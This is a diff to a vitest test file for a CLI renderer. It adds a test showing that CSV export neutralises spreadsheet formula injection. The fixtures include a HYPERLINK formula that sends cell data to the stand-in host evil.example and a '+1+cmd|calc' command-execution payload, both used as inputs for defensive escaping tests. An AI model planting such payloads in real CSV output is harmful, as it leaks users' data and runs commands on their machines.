@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest'
-import { renderTables } from '../../src/cli/render.js'
+import { renderCsv, renderTables } from '../../src/cli/render.js'
 import { displayWidth, fitToWidth, wrapEvenly, wrapLine } from '../../src/cli/table-fit.js'
 
 const view = {
@@ -98,5 +98,23 @@ describe('fitting a table to a width', () => {
     expect(head[1]).toBe('位次')
     expect(cells[0]?.[0]?.split('\n').every((l) => displayWidth(l) <= 22 - 7 - 6)).toBe(true)
     expect(cells[0]?.[0]?.replaceAll('\n', '')).toBe('一二三四五六七八九十')
+  })
+})
+
+describe('renderCsv', () => {
+  it('writes text a spreadsheet would run as a formula with a leading quote, and leaves numbers alone', () => {
+    const csv = renderCsv(
+      [
+        { content: '=HYPERLINK("http://evil.example/?x="&A1,"点我")', n: -3, diff: '-9734', at: '@SUM(A1)' },
+        { content: '+1+cmd|calc', n: 5, diff: '+12', at: '普通文本' },
+      ],
+      false,
+    )
+    expect(csv.split('\r\n')).toEqual([
+      'content,n,diff,at',
+      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")",-3,-9734,'@SUM(A1)`,
+      "'+1+cmd|calc,5,+12,普通文本",
+      '',
+    ])
   })
 })
